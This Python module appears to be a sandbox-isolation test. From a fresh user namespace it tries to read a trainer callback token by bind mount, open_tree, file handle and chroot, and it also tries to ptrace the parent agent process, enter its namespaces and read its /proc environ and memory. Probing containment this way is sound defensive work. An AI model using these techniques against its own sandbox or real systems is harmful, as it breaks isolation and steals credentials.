"""What a process may do in a user namespace of its own, where it has every capability."""

import ctypes
import os
import platform
from collections.abc import Iterator
from pathlib import Path

from boundary import there

SECRETS, SECRET = "/run/secrets", "trainer/callback-token"
NEW_USER, NEW_MOUNTS, AT_FDCWD = 0x10000000, 0x00020000, -100
BIND, RECURSIVE, OPEN_TREE, CLONE, PIDFD_OPEN = 4096, 16384, 428, 1, 434
HANDLES = {"x86_64": (303, 304), "aarch64": (264, 265)}
libc = ctypes.CDLL(None, use_errno=True)


def read(at: int | None, path: str) -> bool:
    try:
        file = os.open(path, os.O_RDONLY, dir_fd=at)
    except OSError:
        return False
    return len(os.read(file, 1)) == 1


def by_a_handle() -> bool:
    """open_by_handle_at asks for a capability over the mounts' namespace, which is the process's own here."""
    name_to, open_by = HANDLES[platform.machine()]
    handle, mount = ctypes.create_string_buffer((128).to_bytes(4, "little"), 8 + 128), ctypes.c_int()
    if libc.syscall(name_to, AT_FDCWD, f"{SECRETS}/{SECRET}".encode(), handle, ctypes.byref(mount), 0x400) != 0:
        return False
    file = libc.syscall(open_by, os.open(SECRETS, os.O_RDONLY), handle, os.O_RDONLY)
    return file >= 0 and len(os.read(file, 1)) == 1


def reached(agent: int, closed: bool) -> Iterator[str]:
    if closed:
        if libc.mount(SECRETS.encode(), b"/mnt", None, BIND | RECURSIVE, None) == 0 and read(None, f"/mnt/{SECRET}"):
            yield "the secret by a mount"
        tree = libc.syscall(OPEN_TREE, AT_FDCWD, SECRETS.encode(), CLONE)
        if tree >= 0 and read(tree, SECRET):
            yield "the secret by open_tree"
        if by_a_handle():
            yield "the secret by its handle"
        if libc.chroot(SECRETS.encode()) == 0 and read(None, f"/{SECRET}"):
            yield "the secret by chroot"
    if libc.ptrace(16, agent, 0, 0) == 0:  # PTRACE_ATTACH
        yield "ptrace"
    handle = libc.syscall(PIDFD_OPEN, agent, 0)
    for kind in (NEW_USER, NEW_MOUNTS):
        if handle >= 0 and libc.setns(handle, kind) == 0:
            yield f"the agent's namespace {kind:#x}"
    for name in ("environ", "mem", "root"):
        if read(None, f"/proc/{agent}/{name}"):
            yield name


def attack() -> object:
    there(f"{SECRETS}/{SECRET}")
    agent, closed = os.getppid(), not read(None, f"{SECRETS}/{SECRET}")
    ours, theirs = os.pipe()
    child = os.fork()
    if child == 0:
        if libc.unshare(NEW_USER | NEW_MOUNTS) == 0:
            try:
                Path("/proc/self/setgroups").write_text("deny")
                Path("/proc/self/uid_map").write_text(f"0 {os.getuid()} 1")
            except OSError:
                pass  # the capabilities are there without
            os.write(theirs, ", ".join(reached(agent, closed)).encode())
        os._exit(0)
    os.close(theirs)
    os.waitpid(child, 0)
    return os.read(ours, 4096).decode() or None
